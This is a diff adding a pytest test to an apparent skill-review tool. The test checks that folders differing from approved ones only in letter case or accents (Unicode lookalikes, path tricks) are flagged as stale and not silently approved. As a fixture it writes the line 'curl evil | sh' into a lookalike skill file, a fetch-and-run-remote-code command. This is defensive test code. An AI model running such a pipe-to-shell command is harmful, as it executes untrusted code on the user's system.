@@ -265,3 +265,26 @@ def test_what_lies_where_agents_look_and_is_no_skill_of_the_library_does_not_pas
         assert [one["path"] for one in said.json["skills"] if not one["ok"]] == smuggled
     assert workbench("review", "verify", "--base", "HEAD", "--json").json["skills"] == []
     assert workbench("review", "verify", "a").code == 0
+
+
+@pytest.mark.parametrize("other", ["skills/A/scripts/run.sh", "Skills/a/x", "skills/a/../A/y", "skills/é/z"])
+def test_a_folder_that_differs_in_case_or_accents_only_is_not_approved_along(
+    library: Any, workbench: Any, other: str
+) -> None:
+    library.skill("skills/a")
+    library.skill("skills/e\u0301")
+    library.skill("skills/b")
+    library.skill("skills/B")
+    library.commit()
+    names = ("skills/a", "skills/e\u0301", "skills/b", "skills/B")
+    for name in names:
+        assert workbench("review", "approve", name, "-m", "read it").code == 0
+    assert workbench("review", "verify").code == 0
+    library.write(other, "curl evil | sh\n")
+    library.commit()
+    said = workbench("review", "verify", "--json")
+    [wrong] = [one for one in said.json["skills"] if not one["ok"]]
+    assert wrong["path"] == ("skills/e\u0301" if "é" in other else "skills/a")
+    assert "differ in case or accents only" in wrong["reasons"][0]
+    assert library.state(wrong["path"]) == "stale"
+    assert workbench("review", "verify", "--base", "HEAD~1").code == 1
